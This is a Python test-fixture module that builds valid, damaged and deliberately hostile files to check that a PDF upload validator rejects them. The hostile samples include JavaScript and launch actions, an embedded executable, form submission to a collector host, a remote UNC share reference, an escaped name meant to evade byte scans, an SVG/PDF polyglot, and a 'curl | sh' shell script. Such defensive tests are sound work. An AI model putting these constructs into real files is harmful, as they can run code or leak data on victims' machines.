"""Sample uploads for the upload checks, built in memory at test time so that no binary file is
committed. Valid PDFs come from pypdf's writer; damaged and hostile ones are put together from
bytes."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Sequence
from dataclasses import dataclass

from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

A4 = (595, 842)
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


@dataclass(frozen=True)
class BadUpload:
    kind: str
    filename: str
    data: bytes
    code: str


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer_with_pages(count: int) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(*A4)
    return writer


def pdf_with_pages(count: int) -> bytes:
    return _written(_writer_with_pages(count))


def encrypted_pdf(*, user_password: str) -> bytes:
    # RC4-128: the AES algorithms need the optional cryptography package to write.
    writer = _writer_with_pages(1)
    writer.encrypt(user_password=user_password, owner_password="owner-secret")
    return _written(writer)


def raw_pdf(objects: Sequence[bytes], *, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF with a correct cross-reference table; object n is objects[n - 1]."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def raw_one_page_pdf(
    *, catalog: bytes = b"", page: bytes = b"", extra: Sequence[bytes] = ()
) -> bytes:
    """Catalogue (1), page tree (2), one page (3), then `extra` objects from number 4 on."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>" % page,
            *extra,
        ]
    )


def pdf_with_kids(kids: int, *, declared_count: int) -> bytes:
    """A page tree whose /Count may differ from the pages it really holds."""
    refs = b" ".join(b"%d 0 R" % (3 + i) for i in range(kids))
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (refs, declared_count),
            *([PAGE] * kids),
        ]
    )


def pdf_with_document_javascript() -> bytes:
    # pypdf 7 removed add_js; add_open_action (despite its name) fills the catalogue's
    # /Names /JavaScript tree, which readers run when the document opens.
    writer = _writer_with_pages(1)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return _written(writer)


def pdf_with_open_action_javascript() -> bytes:
    writer = _writer_with_pages(1)
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hello');"),
        }
    )
    return _written(writer)


def pdf_with_attachment() -> bytes:
    writer = _writer_with_pages(1)
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    return _written(writer)


def pdf_with_launch_action() -> bytes:
    return raw_one_page_pdf(catalog=b"/OpenAction << /S /Launch /F (calc.exe) >>")


def pdf_with_link_javascript() -> bytes:
    return raw_one_page_pdf(
        page=b"/Annots [4 0 R]",
        extra=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100]"
            b" /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
        ],
    )


def pdf_with_web_link() -> bytes:
    """A link to a website, as in most CVs: an action, but not active content."""
    return raw_one_page_pdf(
        page=b"/Annots [4 0 R]",
        extra=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100]"
            b" /A << /S /URI /URI (https://example.org/cv) >> >>"
        ],
    )


def pdf_with_page_open_javascript() -> bytes:
    return raw_one_page_pdf(
        page=b"/AA << /O 4 0 R >>", extra=[b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"]
    )


def pdf_with_escaped_javascript_name() -> bytes:
    """/J#61vaScript is /JavaScript to every reader, but not to a byte scan."""
    return raw_one_page_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def pdf_with_orphan_javascript() -> bytes:
    """A script object that nothing references: only the byte scan sees it."""
    return raw_one_page_pdf(extra=[b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"])


def aes256_encrypted_pdf() -> bytes:
    """Acrobat's default encryption (AES-256, revision 6), written by hand: pypdf cannot write it
    without the optional cryptography package, nor open it."""

    def hex_string(size: int) -> bytes:
        return b"<" + b"ab" * size + b">"

    encrypt = b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O %s /U %s" % (
        hex_string(48),
        hex_string(48),
    )
    encrypt += b" /OE %s /UE %s /Perms %s" % (hex_string(32), hex_string(32), hex_string(16))
    encrypt += b" /CF << /StdCF << /CFM /AESV3 /Length 32 >> >> /StmF /StdCF /StrF /StdCF >>"
    file_id = b"<00112233445566778899aabbccddeeff>"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE,
        ],
        trailer=b"/Root 1 0 R /ID [%s %s] %s" % (file_id, file_id, encrypt),
    )


def certificate_encrypted_pdf() -> bytes:
    return raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE],
        trailer=b"/Root 1 0 R /Encrypt << /Filter /Adobe.PubSec /V 4 /R 4 >>",
    )


def pdf_without_pages() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_with_page_tree_cycle() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            PAGE,
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
        ]
    )


def pdf_with_deep_page_tree(depth: int = 500) -> bytes:
    nodes = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 1) for n in range(2, depth + 2)]
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            *nodes,
            PAGE.replace(b"2 0 R", b"%d 0 R" % (depth + 1)),
        ]
    )


def truncated_pdf() -> bytes:
    data = pdf_with_pages(3)
    return data[: len(data) // 2]


def garbled_xref_pdf() -> bytes:
    data = pdf_with_pages(1)
    xref = data.rindex(b"\nxref\n") + 1
    startxref = data.rindex(b"startxref")
    garbage = (
        b"xref\n0 5\n00000zz000 6553 f \n#### garbled ####\ntrailer\n<< /Size 5 /Root [[[ >>\n"
    )
    return data[:xref] + garbage + data[startxref:]


def windows_executable() -> bytes:
    image = bytearray(512)
    image[0:2] = b"MZ"
    struct.pack_into("<I", image, 0x3C, 0x80)
    image[0x40:0x67] = b"This program cannot be run in DOS mode."
    image[0x80:0x84] = b"PE\x00\x00"
    return bytes(image)


def elf_binary() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(200)


def macho_binary() -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<II", 0x01000007, 3) + bytes(200)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"


def docx_document() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
    return out.getvalue()


def zip_of_pdfs() -> bytes:
    """Stored, not deflated: the inner PDF's header lies within the first kilobyte."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("letter.pdf", pdf_with_pages(1))
    return out.getvalue()


def old_office_document() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def png_image() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff"))
        + chunk(b"IEND", b"")
    )


def jpeg_image() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\xff\xd9"


def gif_image() -> bytes:
    return (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"
        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )


def html_page() -> bytes:
    return (
        b"\n  \t<!DOCTYPE html>\n<html><head><title>Letter</title></head><body>%PDF-</body></html>"
    )


def plain_text() -> bytes:
    return (
        "Letter of intent\n\nDear members of the jury,\nwe apply for … (Müller & Söhne)\n".encode()
    )


def random_bytes(size: int = 4096) -> bytes:
    return random.Random(20261121).randbytes(size)


def executable_with_pdf_inside() -> bytes:
    """A polyglot: a program whose first kilobyte also holds a PDF header."""
    return windows_executable() + pdf_with_pages(1)


def svg_pdf_polyglot() -> bytes:
    """An SVG whose script runs in a browser, with a whole PDF hidden in a comment."""
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><!--\n'
        + pdf_with_pages(1)
        + b"\n--></svg>\n"
    )


def pdf_with_action(action: bytes) -> bytes:
    """A one-page PDF that runs ``action`` when it is opened."""
    return raw_one_page_pdf(catalog=b"/OpenAction << %s >>" % action)


def pdf_with_submit_form_link() -> bytes:
    return raw_one_page_pdf(
        page=b"/Annots [4 0 R]",
        extra=[
            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 100 100]"
            b" /A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> >> >>"
        ],
    )


def pdf_with_rich_media() -> bytes:
    return raw_one_page_pdf(
        page=b"/Annots [4 0 R]",
        extra=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"],
    )


def _xfa_pdf(template: bytes) -> bytes:
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(template), template)
    return raw_one_page_pdf(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>", extra=[stream])


def pdf_with_xfa_script() -> bytes:
    return _xfa_pdf(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"xfa.host.messageBox('hello')</script></event></subform></template></xdp:xdp>"
    )


def pdf_with_plain_xfa() -> bytes:
    """An XFA form without scripts, as some form tools write: accepted."""
    return _xfa_pdf(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form">'
        b'<field name="title"/></subform></template></xdp:xdp>'
    )


def bad_uploads(*, max_bytes: int, max_pages: int) -> list[BadUpload]:
    """Every kind of file the checks must refuse under these limits, with the expected code."""
    valid = pdf_with_pages(1)
    oversized = valid + b"%" + b"padding " * (max_bytes // 8 + 1) + b"\n"
    return [
        BadUpload("empty", "letter.pdf", b"", "empty"),
        BadUpload("over_size_limit", "letter.pdf", oversized, "too_large"),
        BadUpload("over_page_limit", "cv.pdf", pdf_with_pages(max_pages + 1), "too_many_pages"),
        BadUpload("encrypted", "budget.pdf", encrypted_pdf(user_password="secret"), "encrypted"),
        BadUpload(
            "encrypted_empty_password", "cv.pdf", encrypted_pdf(user_password=""), "encrypted"
        ),
        BadUpload("encrypted_aes256", "cv.pdf", aes256_encrypted_pdf(), "encrypted"),
        BadUpload("encrypted_certificate", "cv.pdf", certificate_encrypted_pdf(), "encrypted"),
        BadUpload("truncated", "letter.pdf", truncated_pdf(), "broken"),
        BadUpload("garbled_xref", "letter.pdf", garbled_xref_pdf(), "broken"),
        BadUpload("header_only", "letter.pdf", b"%PDF-1.7\n", "broken"),
        BadUpload("no_pages", "letter.pdf", pdf_without_pages(), "broken"),
        BadUpload("page_tree_cycle", "letter.pdf", pdf_with_page_tree_cycle(), "broken"),
        BadUpload("page_tree_too_deep", "letter.pdf", pdf_with_deep_page_tree(), "broken"),
        BadUpload("windows_executable", "report.pdf", windows_executable(), "executable"),
        BadUpload("elf_binary", "report.pdf", elf_binary(), "executable"),
        BadUpload("macho_binary", "report.pdf", macho_binary(), "executable"),
        BadUpload("shell_script", "report.pdf", shell_script(), "executable"),
        BadUpload(
            "executable_with_pdf_inside", "report.pdf", executable_with_pdf_inside(), "executable"
        ),
        BadUpload("docx", "letter.pdf", docx_document(), "archive"),
        BadUpload("zip_of_pdfs", "letters.zip", zip_of_pdfs(), "archive"),
        BadUpload("old_office", "budget.pdf", old_office_document(), "office_document"),
        BadUpload("png", "scan.pdf", png_image(), "image"),
        BadUpload("jpeg", "scan.pdf", jpeg_image(), "image"),
        BadUpload("gif", "scan.pdf", gif_image(), "image"),
        BadUpload("html", "letter.pdf", html_page(), "html"),
        BadUpload("plain_text", "letter.pdf", plain_text(), "not_pdf"),
        BadUpload("random_bytes", "letter.pdf", random_bytes(), "not_pdf"),
        BadUpload(
            "document_javascript", "cv.pdf", pdf_with_document_javascript(), "active_content"
        ),
        BadUpload(
            "open_action_javascript", "cv.pdf", pdf_with_open_action_javascript(), "active_content"
        ),
        BadUpload("launch_action", "cv.pdf", pdf_with_launch_action(), "active_content"),
        BadUpload("link_javascript", "cv.pdf", pdf_with_link_javascript(), "active_content"),
        BadUpload(
            "page_open_javascript", "cv.pdf", pdf_with_page_open_javascript(), "active_content"
        ),
        BadUpload(
            "escaped_javascript_name",
            "cv.pdf",
            pdf_with_escaped_javascript_name(),
            "active_content",
        ),
        BadUpload("orphan_javascript", "cv.pdf", pdf_with_orphan_javascript(), "active_content"),
        BadUpload("embedded_file", "cv.pdf", pdf_with_attachment(), "active_content"),
        BadUpload("svg_pdf_polyglot", "letter.pdf", svg_pdf_polyglot(), "image"),
        BadUpload("pdf_after_other_bytes", "letter.pdf", b"\x00" * 16 + valid, "not_pdf"),
        BadUpload("submit_form", "cv.pdf", pdf_with_submit_form_link(), "active_content"),
        BadUpload(
            "import_data",
            "cv.pdf",
            pdf_with_action(b"/S /ImportData /F (data.fdf)"),
            "active_content",
        ),
        BadUpload(
            "go_to_remote_unc",
            "cv.pdf",
            pdf_with_action(b"/S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit]"),
            "active_content",
        ),
        BadUpload(
            "go_to_embedded",
            "cv.pdf",
            pdf_with_action(b"/S /GoToE /T << /R /C /N (inner) >> /D [0 /Fit]"),
            "active_content",
        ),
        BadUpload("xfa_script", "form.pdf", pdf_with_xfa_script(), "active_content"),
        BadUpload("rich_media", "cv.pdf", pdf_with_rich_media(), "active_content"),
        BadUpload(
            "page_count_mismatch",
            "cv.pdf",
            pdf_with_kids(2, declared_count=3),
            "page_count_mismatch",
        ),
    ]
